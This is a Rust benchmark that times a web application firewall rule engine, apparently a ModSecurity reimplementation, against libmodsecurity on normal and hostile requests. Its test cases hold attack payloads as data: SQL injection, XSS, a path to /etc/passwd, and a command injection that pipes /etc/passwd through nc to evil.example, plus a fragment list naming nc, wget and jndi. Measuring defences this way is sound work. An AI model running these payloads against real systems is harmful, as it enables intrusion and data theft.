//! The core rule set at paranoia level 1, here and in libmodsecurity, in one run on one core each.
//!
//! `apt-get install libmodsecurity3`, then `CRS_DIR=… cargo bench -p seclang --bench side_by_side`. libmodsecurity is driven by
//! a C program that times itself; what is printed of each side is the least of several rounds. Without libmodsecurity our side
//! alone is printed.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    clippy::print_stdout,
    clippy::print_stderr,
    reason = "a program for people who measure"
)]

#[path = "../tests/suite/mod.rs"]
mod suite;

use seclang::RuleSet;
use std::{
    sync::Arc,
    time::{Duration, Instant},
};
use suite::{Request, differential::ModSecurity};

/// A request, and how many times faster it is to be.
struct Case {
    name: &'static str,
    wanted: f64,
    request: Request,
}

fn main() {
    // `cargo test --all-targets` only wants to know whether it compiles.
    if !std::env::args().any(|argument| argument == "--bench") {
        return;
    }
    let Some(folder) = suite::folder("the benchmark") else { return };
    let extra = suite::level(1);
    let before = suite::differential::memory("/proc/self/status");
    let started = Instant::now();
    let rules = suite::rules(&folder, &extra, false);
    let load = started.elapsed();
    let loaded = suite::differential::memory("/proc/self/status");
    // A part of a name measures our side of these requests alone, for a profiler.
    if let Some(only) = std::env::args().skip(1).find(|argument| !argument.starts_with('-')) {
        for case in cases().into_iter().filter(|case| case.name.contains(&only)) {
            row(case.name, (0..20).map(|_| time(&rules, &case.request)).min().unwrap(), None, case.wanted);
        }
        return adversarial(&rules, &only);
    }
    let mut other = ModSecurity::start(&folder, &extra)
        .map_err(|error| eprintln!("without libmodsecurity: {error}"))
        .ok();
    println!("{:26} {:>12} {:>14} {:>8} {:>7}", "request", "seclang", "libmodsecurity", "ratio", "wanted");
    for case in cases() {
        // Both in turn: a machine that is slow for a while is slow for both.
        let round =
            |_| (time(&rules, &case.request), other.as_mut().map(|other| other_time(other, &case.request)));
        let (ours, theirs): (Vec<_>, Vec<_>) = (0..ROUNDS).map(round).unzip();
        row(case.name, ours.into_iter().min().unwrap(), theirs.into_iter().flatten().min(), case.wanted);
    }
    println!(
        "{:26} {load:>12.0?} {:>14}",
        "load",
        other.as_ref().map_or(String::new(), |other| format!("{:.0?}", other.load))
    );
    let small = &cases()[0].request;
    let allocations = allocation_counter::measure(|| drop(suite::evaluate(&rules, small))).count_total;
    println!("{:26} {allocations:>12}", "allocations, small GET");
    println!("{:26} {:>8} MiB", "resident after the load", loaded.saturating_sub(before) >> 20);
    let after = suite::differential::memory("/proc/self/status");
    let theirs = other.as_ref().map_or(String::new(), |other| format!("{:>10} MiB", other.memory() >> 20));
    println!("{:26} {:>8} MiB {theirs}", "resident after all this", after.saturating_sub(before) >> 20);
    adversarial(&rules, "");
}

fn row(name: &str, ours: Duration, theirs: Option<Duration>, wanted: f64) {
    let micros = |time: Duration| format!("{:.1} us", time.as_secs_f64() * 1e6);
    let (theirs, ratio) = match theirs {
        Some(theirs) => (micros(theirs), format!("{:.1}x", theirs.as_secs_f64() / ours.as_secs_f64())),
        None => (String::new(), String::new()),
    };
    println!("{name:26} {:>12} {theirs:>14} {ratio:>8} {:>7}", micros(ours), format!("{wanted}x"));
}

/// How often both sides are measured, in turn.
const ROUNDS: usize = 15;

/// The least time of a request over some spans of some milliseconds.
fn time(rules: &Arc<RuleSet>, request: &Request) -> Duration {
    let once = |count: u32| {
        let started = Instant::now();
        for _ in 0..count {
            std::hint::black_box(suite::evaluate(rules, request));
        }
        started.elapsed() / count
    };
    let count = u32::try_from(20_000_000 / once(3).as_nanos().max(1)).unwrap_or(1).clamp(1, 2000);
    (0..3).map(|_| once(count)).min().unwrap()
}

fn other_time(other: &mut ModSecurity, request: &Request) -> Duration {
    let once = other.time(request, 1);
    let count = u32::try_from(50_000_000 / once.as_nanos().max(1)).unwrap_or(1).clamp(1, 100);
    (0..2).map(|_| other.time(request, count)).min().unwrap()
}

fn request(method: &str, uri: &str, kind: Option<&str>, body: Vec<u8>) -> Request {
    let mut headers: Vec<(Vec<u8>, Vec<u8>)> = [
        ("Host", "shop.example.com"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", "en-US,en;q=0.5"),
        ("Accept-Encoding", "gzip, deflate, br"),
        ("Referer", "https://shop.example.com/products"),
        ("Cookie", "session=0c9f7be1a2d34f58; theme=dark; lang=en"),
        ("Connection", "keep-alive"),
    ]
    .map(|(name, value)| (name.into(), value.into()))
    .into();
    if let Some(kind) = kind {
        headers.push((b"Content-Type".to_vec(), kind.into()));
        headers.push((b"Content-Length".to_vec(), body.len().to_string().into_bytes()));
    }
    Request {
        method: method.into(),
        uri: uri.into(),
        protocol: b"HTTP/1.1".to_vec(),
        headers,
        body,
        response: None,
    }
}

/// JSON of orders with so many bytes.
fn json(size: usize) -> Vec<u8> {
    let mut out = br#"{"customer":{"name":"Ada Lovelace","mail":"ada@example.com"},"items":["#.to_vec();
    let mut number = 0;
    while out.len() + 320 < size {
        if number > 0 {
            out.push(b',');
        }
        number += 1;
        let price = number * 37 % 1000;
        out.extend_from_slice(
            format!(r#"{{"sku":"AB-{number:05}","title":"A good thing for the house, made by hand in a small town near the sea, of wood that was cut there; it comes with its own box, which is made of the same wood and has two small doors, and there is a letter in it from the people who made both","price":{price}.50}}"#)
                .as_bytes(),
        );
    }
    out.extend_from_slice(b"]}");
    out
}

fn one_field(size: usize) -> Vec<u8> {
    let text = "The quick brown fox jumps over the lazy dog and runs through the forest until it is late. ";
    format!(r#"{{"text":"{}"}}"#, text.repeat(size / text.len())).into_bytes()
}

fn cases() -> Vec<Case> {
    const JSON: Option<&str> = Some("application/json");
    const FORM: Option<&str> = Some("application/x-www-form-urlencoded");
    let case = |name, wanted, request| Case { name, wanted, request };
    vec![
        case("small GET", 25.0, request("GET", "/products/42?page=2&sort=price", None, Vec::new())),
        case("2 KB JSON POST", 20.0, request("POST", "/orders", JSON, json(2048))),
        case("64 KB JSON, many fields", 12.0, request("POST", "/orders", JSON, json(64 << 10))),
        case("64 KB JSON, one field", 10.0, request("POST", "/notes", JSON, one_field(64 << 10))),
        case(
            "SQLi GET",
            20.0,
            request(
                "GET",
                "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20",
                None,
                Vec::new(),
            ),
        ),
        case(
            "XSS JSON",
            20.0,
            request(
                "POST",
                "/notes",
                JSON,
                br#"{"title":"hi","text":"<script>alert(document.cookie)</script>"}"#.to_vec(),
            ),
        ),
        case("LFI GET", 20.0, request("GET", "/download?file=../../../../etc/passwd", None, Vec::new())),
        case(
            "RCE form",
            20.0,
            request(
                "POST",
                "/ping",
                FORM,
                b"host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd+%7C+nc+evil.example+4444".to_vec(),
            ),
        ),
    ]
}

/// Bodies that are made to be slow, by cost a byte.
fn adversarial(rules: &Arc<RuleSet>, only: &str) {
    const JSON: Option<&str> = Some("application/json");
    const FORM: Option<&str> = Some("application/x-www-form-urlencoded");
    // One that is looked at alone is looked at for long, for a profiler.
    let least_time = Duration::from_millis(if only.is_empty() { 300 } else { 3000 });
    let cost = |request: &Request| {
        let started = Instant::now();
        let mut least = Duration::MAX;
        while started.elapsed() < least_time || least == Duration::MAX {
            let once = Instant::now();
            std::hint::black_box(suite::evaluate(rules, request));
            least = least.min(once.elapsed());
        }
        least.as_secs_f64() * 1e9 / request.body.len() as f64
    };
    let benign = cost(&request("POST", "/orders", JSON, json(64 << 10)));
    println!("\n{:40} {:>10} {:>8} {:>10}", "body", "ns a byte", "ratio", "doubled");
    println!("{:40} {benign:>10.1} {:>8}", "64 KB JSON, many fields", "1.0x");
    for (name, kind, make) in hostile().into_iter().filter(|(name, ..)| name.contains(only)) {
        let kind = match kind {
            "json" => JSON,
            "form" => FORM,
            other => Some(other),
        };
        let (one, two) = (
            cost(&request("POST", "/x", kind, make(32 << 10))),
            cost(&request("POST", "/x", kind, make(64 << 10))),
        );
        println!(
            "{name:40} {two:>10.1} {:>8} {:>10}",
            format!("{:.1}x", two / benign),
            format!("{:.2}x", two / one)
        );
    }
}

type Make = fn(usize) -> Vec<u8>;

fn hostile() -> Vec<(&'static str, &'static str, Make)> {
    vec![
        ("JSON, random printable text", "json", |size| text_body(&noise(size, b' '..=b'~'))),
        ("JSON, pieces of all attacks", "json", |size| text_body(&pieces(size))),
        ("JSON, deep", "json", |size| {
            [b"[".repeat(400), b"1,".repeat(size / 2 - 400), b"1".to_vec(), b"]".repeat(400)].concat()
        }),
        ("form, 10 000 arguments", "form", |size| {
            (0..size / 7).flat_map(|at| format!("a{at}=b&").into_bytes()).collect()
        }),
        ("form, escapes", "form", |size| [b"a=".to_vec(), b"%2526lt%3B%5Cx41".repeat(size / 16)].concat()),
        ("multipart, 1 000 parts", "multipart/form-data; boundary=b", |size| {
            let part = |at: usize| {
                format!("--b\r\nContent-Disposition: form-data; name=\"a{at}\"\r\n\r\nv\r\n").into_bytes()
            };
            [(0..size / 60).flat_map(part).collect::<Vec<u8>>(), b"--b--\r\n".to_vec()].concat()
        }),
        ("form, quotes", "form", |size| [b"a=".to_vec(), b"'\"`".repeat(size / 3)].concat()),
        ("form, tags", "form", |size| [b"a=".to_vec(), b"<a b=c ".repeat(size / 7)].concat()),
        ("form, dots and slashes", "form", |size| [b"a=".to_vec(), b"../".repeat(size / 3)].concat()),
        ("form, comments", "form", |size| [b"a=".to_vec(), b"/*-".repeat(size / 3)].concat()),
    ]
}

fn text_body(text: &[u8]) -> Vec<u8> {
    let clean = text.iter().filter(|byte| !matches!(byte, b'"' | b'\\')).copied();
    [br#"{"text":""#.to_vec(), clean.collect(), br#""}"#.to_vec()].concat()
}

fn numbers() -> impl Iterator<Item = usize> {
    let mut state = 11u64;
    std::iter::repeat_with(move || {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) as usize
    })
}

fn noise(size: usize, bytes: std::ops::RangeInclusive<u8>) -> Vec<u8> {
    let span = usize::from(bytes.end() - bytes.start()) + 1;
    numbers().take(size).map(|number| bytes.start() + (number % span) as u8).collect()
}

/// Beginnings of everything that rules look for, so that the automata see as many states as they have.
fn pieces(size: usize) -> Vec<u8> {
    const PIECES: [&str; 24] = [
        "select ",
        "union/*",
        "<scrip",
        "onload",
        "javascript",
        "../",
        "etc/pass",
        "${jndi",
        "cat /",
        ";nc ",
        "eval(",
        "base64_",
        "php://",
        "__proto",
        "sleep(",
        "or 1",
        "and '",
        "--",
        "exec xp",
        "wget ",
        "cmd.exe",
        "<iframe",
        "&#x6",
        "file://",
    ];
    let mut out = Vec::new();
    for number in numbers() {
        if out.len() >= size {
            break;
        }
        let piece = PIECES[number % PIECES.len()];
        out.extend_from_slice(&piece.as_bytes()[..1 + number / 64 % piece.len()]);
    }
    out
}
